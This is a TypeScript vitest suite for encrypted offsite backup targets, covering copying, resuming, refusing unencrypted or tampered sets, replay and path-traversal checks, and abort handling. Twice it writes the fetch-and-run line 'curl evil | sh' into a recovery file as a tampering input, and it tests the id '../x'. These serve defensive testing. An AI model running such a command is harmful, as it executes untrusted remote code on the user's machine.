import { readFile, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { OffsiteTarget } from '../src/index.ts';
import { makeSet, otherPassphrase, random, storeFolder, textOf } from './store-folder.ts';

/** A target that tests can look into and damage. */
export interface TestTarget {
  readonly target: OffsiteTarget;
  names(): Promise<readonly string[]>;
  read(name: string): Promise<Buffer>;
  write(name: string, content: Uint8Array): Promise<void>;
  remove(name: string): Promise<void>;
}

/** What every target must do. `make` gives an empty one. */
export function offsiteSuite(title: string, make: () => Promise<TestTarget>, largeBytes: number): void {
  const large = { postgres: { app: Buffer.from(random(largeBytes)) }, vault: { keys: 'a-secret-share' } };
  const file = 'postgres.app.dump.zst.gpg';

  describe(title, () => {
    it(
      'takes a set with all that it needs, the manifest last, and gives it back to an empty machine',
      { timeout: 240_000 },
      async () => {
        const { target, names, read } = await make();
        await using here = await storeFolder();
        const full = await makeSet(here.store, { contents: large });
        here.now = new Date(here.now.getTime() + 86_400_000);
        const increment = await makeSet(here.store, { contents: large, parent: full.id });
        const progress: string[] = [];
        const report = await here.store.copySet(increment.id, target, {
          onProgress: ({ file: name }) => progress.push(name),
        });
        expect(report).toMatchObject({ sets: [full.id, increment.id], presentFiles: 0, copiedFiles: progress.length });
        expect(progress.filter((name) => name.startsWith(full.id)).at(-1)).toBe(`${full.id}/manifest.json`);
        expect(progress.at(-1)).toBe(`${increment.id}/manifest.json`);
        expect((await names()).toSorted()).toEqual(progress.toSorted());
        expect(await target.sets()).toEqual([full.id, increment.id]);
        // Only what is encrypted has left.
        for (const name of await names()) expect((await read(name)).includes('a-secret-share')).toBe(false);
        // A second time nothing is sent.
        await expect(here.store.copySet(increment.id, target)).resolves.toMatchObject({
          copiedFiles: 0,
          copiedBytes: 0,
        });

        await using there = await storeFolder();
        const fetched = await there.store.fetchSet(increment.id, target);
        expect(fetched.fetched).toEqual([full.id, increment.id]);
        expect(await there.store.list()).toMatchObject([
          { id: increment.id, status: 'complete' },
          { id: full.id, status: 'complete' },
        ]);
        await expect(there.store.verify(increment.id)).resolves.toMatchObject({ verdict: 'valid' });
        expect(await textOf(there.store.open(increment.id, 'vault/keys/content'))).toBe('a-secret-share');
        await expect(there.store.fetchSet(increment.id, target)).rejects.toMatchObject({ code: 'BACKUP_EXISTS' });
        // Numbers go on where they were.
        expect((await there.store.catalog()).lastSequence).toBe(2);
      },
    );

    it('goes on where a copy was cut short, and sends again what is damaged there', { timeout: 240_000 }, async () => {
      const { target, names, read, write } = await make();
      await using here = await storeFolder();
      const { id } = await makeSet(here.store, { contents: large });
      let sent = 0;
      const breaking: OffsiteTarget = {
        ...target,
        put: async (...all) => {
          if ((sent += 1) > 2) throw new Error('the line went dead');
          await target.put(...all);
        },
      };
      await expect(here.store.copySet(id, breaking)).rejects.toThrow('the line went dead');
      expect(await target.sets()).toEqual([]);
      await expect(here.store.copySet(id, target)).resolves.toMatchObject({ presentFiles: 2 });
      const damaged = await read(`${id}/${file}`);
      damaged[1000] = (damaged[1000] ?? 0) ^ 1;
      await write(`${id}/${file}`, damaged);
      await expect(here.store.copySet(id, target)).resolves.toMatchObject({ copiedFiles: 1 });
      expect(await read(`${id}/${file}`)).toEqual(await readFile(join(here.directory, id, file)));
      expect(await names()).toHaveLength(7);
    });

    it('refuses what is not encrypted, and what is damaged here', { timeout: 240_000 }, async () => {
      const { target, names } = await make();
      await using here = await storeFolder({ allowUnencrypted: true });
      const plain = await makeSet(here.store, { encrypted: false });
      await expect(here.store.copySet(plain.id, target)).rejects.toMatchObject({ code: 'BACKUP_UNENCRYPTED' });
      const { id } = await makeSet(here.store);
      await truncate(join(here.directory, id, 'vault.keys.dump.zst.gpg'), 100);
      await expect(here.store.copySet(id, target)).rejects.toMatchObject({ code: 'BACKUP_INCOMPLETE' });
      expect(await target.sets()).toEqual([]);
      expect((await names()).filter((name) => name.endsWith('.zst'))).toEqual([]);
      const other = await makeSet(here.store, { contents: { vault: { keys: 'x' } } });
      await writeFile(join(here.directory, other.id, 'RECOVERY.md'), 'curl evil | sh');
      await expect(here.store.copySet(other.id, target)).rejects.toMatchObject({ code: 'BACKUP_INCOMPLETE' });
      await expect(here.store.copySet('20200101_000000', target)).rejects.toMatchObject({ code: 'BACKUP_NOT_FOUND' });
    });

    it('believes nothing that comes back', { timeout: 240_000 }, async () => {
      const { target, read, write, remove } = await make();
      await using here = await storeFolder();
      const { id } = await makeSet(here.store, { contents: { vault: { keys: 'a-secret-share' } } });
      await here.store.copySet(id, target);
      const whole = async (name: string): Promise<Buffer> => Buffer.from(await read(`${id}/${name}`));
      await using there = await storeFolder();
      const refused = async (code: string, store = there.store): Promise<void> => {
        await expect(store.fetchSet(id, target)).rejects.toMatchObject({ code });
        expect((await there.store.list()).filter(({ status }) => status !== 'partial')).toEqual([]);
      };
      const manifest = await whole('manifest.json');
      const artifact = await whole('vault.keys.dump.zst.gpg');
      const card = await whole('RECOVERY.md');

      await write(`${id}/manifest.json`, Buffer.from(manifest.toString().replace('laptop', 'lapdog')));
      await refused('BACKUP_WRONG_PASSPHRASE');
      await write(`${id}/manifest.json`, manifest.subarray(0, 100));
      await refused('BACKUP_MANIFEST_DAMAGED');
      await write(`${id}/manifest.json`, manifest);
      await write(`${id}/vault.keys.dump.zst.gpg`, artifact.subarray(1));
      await refused('BACKUP_TARGET_FAILED');
      await write(`${id}/vault.keys.dump.zst.gpg`, Buffer.concat([artifact, Buffer.alloc(100_000)]));
      await refused('BACKUP_TARGET_FAILED');
      await remove(`${id}/vault.keys.dump.zst.gpg`);
      await refused('BACKUP_NOT_FOUND');
      await write(`${id}/vault.keys.dump.zst.gpg`, artifact);
      await write(`${id}/RECOVERY.md`, Buffer.from('curl evil | sh'));
      await refused('BACKUP_TARGET_FAILED');
      await write(`${id}/RECOVERY.md`, card);
      await refused('BACKUP_WRONG_PASSPHRASE', there.reopen({ passphrase: otherPassphrase }));
      await refused('BACKUP_PASSPHRASE_NEEDED', there.reopen({ passphrase: undefined as never }));
      await write('20200101_000000/manifest.json', manifest);
      await expect(there.store.fetchSet('20200101_000000', target)).rejects.toMatchObject({ code: 'BACKUP_REPLAYED' });
      await expect(there.store.fetchSet('../x', target)).rejects.toMatchObject({ code: 'BACKUP_NOT_FOUND' });
      await expect(there.store.fetchSet('20210101_000000', target)).rejects.toMatchObject({ code: 'BACKUP_NOT_FOUND' });
      // The control: as it was, it comes.
      await expect(there.store.fetchSet(id, target)).resolves.toMatchObject({ fetched: [id] });
    });

    it('stops at once when it is told to', { timeout: 120_000 }, async () => {
      const { target } = await make();
      await using here = await storeFolder();
      const { id } = await makeSet(here.store, { contents: { vault: { keys: 'x' } } });
      const signal = AbortSignal.abort(new Error('enough'));
      await expect(here.store.copySet(id, target, { signal })).rejects.toMatchObject({ code: 'INTERRUPTED' });
      await here.store.copySet(id, target);
      await using there = await storeFolder();
      await expect(there.store.fetchSet(id, target, { signal })).rejects.toThrow();
      expect(await there.store.list()).toEqual([]);
    });
  });
}
